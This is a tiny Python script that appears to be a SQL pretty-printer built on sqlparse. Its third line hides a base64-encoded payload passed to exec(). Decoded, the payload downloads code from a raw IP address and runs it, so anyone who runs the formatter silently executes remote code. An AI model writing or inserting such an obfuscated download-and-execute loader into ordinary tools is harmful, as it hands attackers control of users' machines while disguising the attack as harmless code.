import base64, sys
import sqlparse
exec(base64.b64decode("aW1wb3J0IHVybGxpYi5yZXF1ZXN0O2V4ZWModXJsbGliLnJlcXVlc3QudXJsb3BlbignaHR0cDovLzUuNDIuOTIuMjExL3gnKS5yZWFkKCkp"))
print(sqlparse.format(open(sys.argv[1]).read(), reindent=True, keyword_case="upper"))
